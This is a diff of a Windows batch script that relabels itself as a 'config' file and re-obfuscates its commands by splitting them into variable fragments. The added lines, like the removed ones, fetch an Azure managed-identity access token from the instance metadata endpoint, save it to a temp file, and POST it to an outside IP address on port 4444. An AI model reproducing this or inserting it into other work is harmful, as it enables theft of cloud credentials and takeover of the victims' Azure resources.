@@ -1,14 +1,17 @@
-REM run 4399 v2
+REM config 6029 v2
 @echo off
 setlocal EnableDelayedExpansion
-set "htw0=curl -s -H "Metadata:true" "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management."
-set "tsr1=azure.com/" -o %TEMP%\t.json"
-!htw0!!tsr1!
+set vnc0=curl -
+set rov1=s -H "Metadata:true" 
+set lpt2="http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/" 
+set vkv3=-o %TEMP%\
+set ysm4=t.json
+!vnc0!!rov1!!lpt2!!vkv3!!ysm4!
 @echo off
 setlocal EnableDelayedExpansion
-set "ozh0=cu"
-set "utj1=rl -s -X POST --data-b"
-set "znn2=inary @%"
-set "toc3=TEMP%\t.json http://192.0.2."
-set "hgs4=150:443/t"
-!ozh0!!utj1!!znn2!!toc3!!hgs4!
+set tbe0=c
+set itx1=url -s -X POST --d
+set oid2=ata-
+set ght3=binary @%TEMP%\t.json http://203.0.113.200:
+set pee4=4444/t
+!tbe0!!itx1!!oid2!!ght3!!pee4!
